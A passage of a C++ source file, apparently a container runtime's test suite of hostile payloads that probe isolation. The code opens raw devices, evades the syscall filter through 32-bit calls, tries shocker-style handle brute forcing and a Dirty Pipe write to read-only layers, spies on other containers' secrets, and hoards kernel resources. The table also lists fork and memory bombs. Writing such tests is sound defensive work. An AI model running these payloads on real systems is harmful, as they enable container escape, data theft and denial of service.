    }
    return tally.verdict();
}

int devices(const Words&) {
    Tally tally;
    struct Node {
        char type;
        unsigned major, minor;
    };
    constexpr Node nodes[] = {{'c', 1, 1},    {'c', 1, 2},    {'c', 1, 4},    {'c', 1, 11},   {'c', 10, 58},
                              {'c', 10, 200}, {'c', 10, 229}, {'c', 10, 232}, {'c', 10, 237}, {'c', 10, 183},
                              {'c', 89, 0},   {'b', 254, 0},  {'b', 253, 0},  {'b', 8, 0},    {'b', 259, 0},
                              {'b', 7, 0},    {'b', 1, 0},    {'c', 242, 0}};
    for (const auto& [type, major, minor] : nodes)
        for (const char* folder : {"/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/home/tester"}) {
            const auto name = std::string(1, type) + text_of(major) + ":" + text_of(minor);
            const auto path = std::string(folder) + "/hostile-" + name;
            const int made = ::mknod(path.c_str(), static_cast<mode_t>((type == 'b' ? S_IFBLK : S_IFCHR) | 0666),
                                     makedev(major, minor));
            if (made < 0) {
                tally("mknod", -1);
                continue;
            }
            std::printf("made %s\n", path.c_str());
            for (const int flags : {O_RDONLY, O_WRONLY, O_RDWR}) {
                const int fd = ::open(path.c_str(), flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
                if (tally("open " + name, fd) >= 0) ::close(fd);
            }
            ::unlink(path.c_str());
        }
    const std::set<std::string> known{"full", "null",   "random", "tty",   "urandom", "zero",   "console", "pts",
                                      "shm",  "mqueue", "fd",     "stdin", "stdout",  "stderr", "ptmx"};
    for (const auto& name : names_in("/dev"))
        if (!known.contains(name))
            tally("/dev/" + name, ::open(("/dev/" + name).c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY));
    for (const char* name : {"mem", "kmem", "port", "kmsg", "vda", "sda", "nvme0n1", "loop0", "loop-control", "kvm",
                             "fuse", "net/tun", "vhost-vsock"})
        tally(std::string("/dev/") + name,
              ::open((std::string("/dev/") + name).c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY));
    return tally.verdict();
}

// Calls of other architectures. The first one that the filter kills for is the last one.
int foreign_calls(const Words& words) {
#if defined(__x86_64__)
    const auto& how = words.at(0);
    std::fflush(stdout);
    long result = 0;
    if (how == "int80") {
        result = 20;  // getpid
        asm volatile("int $0x80" : "+a"(result)::"memory", "r8", "r9", "r10", "r11");
    } else if (how == "socketcall") {
        // What hides the family from the filter: socketcall(SOCKET, {AF_INET, SOCK_DGRAM, 0}), arguments below 4 GiB.
        auto* arguments = static_cast<unsigned*>(
            ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
        arguments[0] = AF_INET, arguments[1] = SOCK_DGRAM, arguments[2] = 0;
        result = 102;
        asm volatile("int $0x80" : "+a"(result) : "b"(1L), "c"(arguments) : "memory", "r8", "r9", "r10", "r11");
    } else if (how == "x32") {
        result = ::syscall(0x40000000L | SYS_getpid);
        if (result < 0) return stopped(0, "calls");
    }
    std::printf("through %ld\n", result);
    return result >= 0 ? got_through : 1;
#else
    (void)words;
    return nothing_tried;
#endif
}

// ---- Other containers

constexpr const char* secret_mark = "MINIRUN-SECRET";
constexpr key_t secret_key = 0x5ec4e7;

// Has a secret wherever a container can have one.
int hold_secret(const Words&) {
    const std::string secret = secret_mark;
    for (const char* path : {"/tmp/secret", "/dev/shm/secret"})
        if (const int fd = ::open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
            ::write(fd, secret.data(), secret.size()) < 0)
            return 71;
    void* shared = ::shmat(::shmget(secret_key, 4096, IPC_CREAT | 0666), nullptr, 0);
    if (shared == reinterpret_cast<void*>(-1)) return 71;
    std::memcpy(shared, secret.data(), secret.size());
    mq_attr attributes{};
    attributes.mq_maxmsg = 1, attributes.mq_msgsize = 64;
    const mqd_t queue = ::mq_open("/secret", O_RDWR | O_CREAT, 0666, &attributes);
    if (queue < 0 || ::mq_send(queue, secret.data(), secret.size(), 0) < 0) return 71;
    sockaddr_un name{AF_UNIX, "\0secret"};
    const int listening = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (::bind(listening, reinterpret_cast<sockaddr*>(&name), sizeof(sa_family_t) + 7) < 0 ||
        ::listen(listening, 9) < 0)
        return 71;
    sockaddr_in port{AF_INET, htons(17171), {htonl(INADDR_LOOPBACK)}, {}};
    const int served = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (::bind(served, reinterpret_cast<sockaddr*>(&port), sizeof port) < 0 || ::listen(served, 9) < 0) return 71;
    std::puts("ready");
    std::fflush(stdout);
    live_long();
}

// Looks for that of another one.
int spy(const Words&) {
    Tally tally;
    const auto look = [&](const std::string& what, const std::string& path) {
        errno = ENOENT;
        tally(what, contents(path).find(secret_mark) != std::string::npos ? 0 : -1);
    };
    for (int round = 0; round < 3; round++) {
        look("/tmp", "/tmp/secret"), look("/dev/shm", "/dev/shm/secret");
        for (const pid_t pid : visible_processes()) {
            if (pid == ::getpid()) continue;
            const auto process = "/proc/" + text_of(pid);
            look("environment", process + "/environ");
            for (const char* way : {"/root", "/cwd", "/root/proc/1/root", "/root/../../.."})
                look("root", process + way + "/tmp/secret");
        }
        const int id = ::shmget(secret_key, 0, 0);
        void* shared = id < 0 ? reinterpret_cast<void*>(-1) : ::shmat(id, nullptr, SHM_RDONLY);
        tally("shared memory", shared == reinterpret_cast<void*>(-1) ? -1 : 0);
        for (int each = 0; each < 64; each++)
            if (void* at = ::shmat(each, nullptr, SHM_RDONLY); at != reinterpret_cast<void*>(-1))
                tally("shared memory", 0), ::shmdt(at);
        tally("queue", ::mq_open("/secret", O_RDONLY | O_NONBLOCK));
        tally("/dev/mqueue", ::open("/dev/mqueue/secret", O_RDONLY | O_CLOEXEC));
        sockaddr_un name{AF_UNIX, "\0secret"};
        tally("abstract socket", ::connect(::socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&name),
                                           sizeof(sa_family_t) + 7));
        errno = ENOENT;
        tally("/proc/net/unix", contents("/proc/net/unix").find("@secret") != std::string::npos ? 0 : -1);
        sockaddr_in port{AF_INET, htons(17171), {htonl(INADDR_LOOPBACK)}, {}};
        tally("port", ::connect(::socket(AF_INET, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&port), sizeof port));
        // As "shocker" did: the root of the file system below is a small number.
        for (const char* anchor : {"/", "/etc/hosts", "/dev/shm", "/bin/busybox"})
            for (const unsigned inode : {1U, 2U, 64U, 128U, 256U}) {
                struct {
                    unsigned bytes;
                    int type;
                    unsigned words[4];
                } handle{8, 1, {inode, 0, 0, 0}};
                tally("open_by_handle_at",
                      ::syscall(SYS_open_by_handle_at, ::open(anchor, O_RDONLY | O_CLOEXEC), &handle, O_RDONLY));
            }
    }
    return tally.verdict();
}

// As much as one user may have of what the kernel counts by user.
int hoard(const Words&) {
    long taken = 0;
    while (taken < 1000 && ::inotify_init1(IN_CLOEXEC) >= 0) taken++;
    std::printf("ready with %ld\n", taken);
    std::fflush(stdout);
    live_long();
}

// The files of the shared layers.
Words layer_files;
int collect(const char* path, const struct stat* status, int type, FTW*) {
    if (type == FTW_F && S_ISREG(status->st_mode)) layer_files.emplace_back(path);
    return 0;
}

// Locks and leases on all of them, held for ever.
int lock_all(const Words&) {
    std::signal(SIGIO, SIG_IGN);  // somebody wants one of its leases
    for (const char* top : {"/bin", "/etc", "/home"}) ::nftw(top, collect, 16, FTW_PHYS);
    long taken = 0;
    for (const auto& path : layer_files) {
        // One descriptor for each: a second one would wait for the lease of the first.
        const bool read_only = path.starts_with("/bin");
        const int fd = ::open(path.c_str(), (read_only ? O_RDONLY : O_RDWR) | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0) continue;
        struct flock whole {};
        whole.l_type = read_only ? F_RDLCK : F_WRLCK;
        taken += ::flock(fd, LOCK_EX | LOCK_NB) == 0;
        taken += ::fcntl(fd, F_SETLK, &whole) == 0;
        taken += ::fcntl(fd, F_SETLEASE, read_only ? F_RDLCK : F_WRLCK) == 0;
    }
    for (const char* directory : {"/", "/bin", "/etc"})
        taken += ::flock(::open(directory, O_RDONLY | O_CLOEXEC), LOCK_EX | LOCK_NB) == 0;
    std::printf("ready with %ld locks\n", taken);
    std::fflush(stdout);
    live_long();
}

// Changes all of them, by every way that there is to a file, and looks whether it is changed.
int change_layers(const Words&) {
    for (const char* top : {"/bin", "/etc", "/home"}) ::nftw(top, collect, 16, FTW_PHYS);
    long changed = 0;
    for (const auto& path : layer_files) {
        // A read-only descriptor from before the copy-up, through which nothing may be written either.
        const int before = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
        int ends[2];
        if (::pipe2(ends, O_CLOEXEC) == 0) {
            // Dirty Pipe: what is spliced into a pipe is the layer's page, and must not be written to.
            const std::string block(65536, 'x');
            char sink[65536];
            if (::write(ends[1], block.data(), 65536) == 65536 && ::read(ends[0], sink, sizeof sink) == 65536) {
                off64_t at = 0;
                if (::splice(before, &at, ends[1], nullptr, 1, 0) == 1 && ::write(ends[1], "hostile", 7) == 7)
                    changed++;
            }
            ::close(ends[0]), ::close(ends[1]);
        }
        ::chmod(path.c_str(), 0777), ::chown(path.c_str(), 1000, 1000), ::removexattr(path.c_str(), "user.x");
        ::setxattr(path.c_str(), "user.hostile", "y", 1, 0);
        const int again = ::open(("/proc/self/fd/" + text_of(before)).c_str(), O_RDWR | O_CLOEXEC);
        const int fd = ::open(path.c_str(), O_RDWR | O_CLOEXEC);
        for (const int each : {before, again, fd}) {
            if (each < 0) continue;
            changed += ::pwrite(each, "hostile", 7, 0) == 7;
            void* at = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, each, 0);
            if (at != MAP_FAILED)
                std::memcpy(at, "HOSTILE", 7), ::msync(at, 4096, MS_SYNC), ::munmap(at, 4096), changed++;
            ::fallocate(each, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096);
        }
        ::link(path.c_str(), (path + "-linked").c_str()), ::rename(path.c_str(), (path + "-moved").c_str()),
            ::truncate((path + "-moved").c_str(), 0);
        for (const int each : {before, again, fd})
            if (each >= 0) ::close(each);
    }
    std::printf("%ld changes in %zu files\n", changed, layer_files.size());
    return layer_files.empty() || changed == 0 ? nothing_tried : 0;
}

struct Program {
    const char* name;
    int (*run)(const Words&);
    std::size_t least;  // words that it needs
};
constexpr Program programs[] = {
    {"fork-bomb", fork_bomb, 0},
    {"thread-bomb", thread_bomb, 0},
    {"comets", comets, 0},
    {"orphans", orphans, 0},
    {"deaf", deaf, 0},
    {"stopped", stopped_for_ever, 0},
    {"kill-all", kill_all, 0},
    {"ptrace-all", ptrace_all, 0},
    {"memory-bomb", memory_bomb, 1},
    {"phoenix", phoenix, 0},
    {"page-cache", page_cache, 0},
    {"output-flood", output_flood, 1},
    {"file-flood", file_flood, 1},
    {"inode-flood", inode_flood, 1},
    {"thicket", thicket, 0},
    {"mounts", mounts, 0},
    {"namespaces", namespaces, 0},
    {"keys", keys, 0},
    {"sockets", sockets, 0},
    {"io-urings", io_urings, 0},
    {"type-ahead", type_ahead, 0},
    {"settings", settings, 0},
    {"proc-modes", proc_modes, 0},
    {"devices", devices, 0},
    {"foreign-calls", foreign_calls, 1},
    {"hold-secret", hold_secret, 0},
    {"spy", spy, 0},
    {"hoard", hoard, 0},
    {"lock-all", lock_all, 0},
    {"change-layers", change_layers, 0},
};

}  // namespace

int attack(const Words& words) {
    ::alarm(longest + 20);  // not inherited, but children have a bound of their own
    for (const auto& program : programs)
        if (words.at(0) == program.name && words.size() > program.least)
            return program.run({words.begin() + 1, words.end()});
    std::fputs("payload: there is no such attack; the table at the end of hostile.cpp lists them\n", stderr);
    return 64;
}

}  // namespace payload
